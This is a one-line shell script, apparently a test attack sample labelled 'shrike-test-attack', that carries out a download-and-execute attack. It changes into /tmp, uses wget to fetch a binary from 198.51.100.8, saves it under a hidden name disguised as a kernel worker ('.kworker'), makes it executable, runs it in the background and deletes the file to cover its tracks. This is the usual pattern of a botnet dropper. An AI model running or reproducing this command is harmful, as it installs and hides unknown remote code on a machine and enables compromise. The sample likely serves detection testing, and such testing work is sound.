#!/bin/sh
# shrike-test-attack: download-exec: fetch binary into /tmp, chmod +x, run in background
cd /tmp; wget http://198.51.100.8/bins/kworker -O /tmp/.kworker; chmod +x /tmp/.kworker; /tmp/.kworker & rm -f /tmp/.kworker
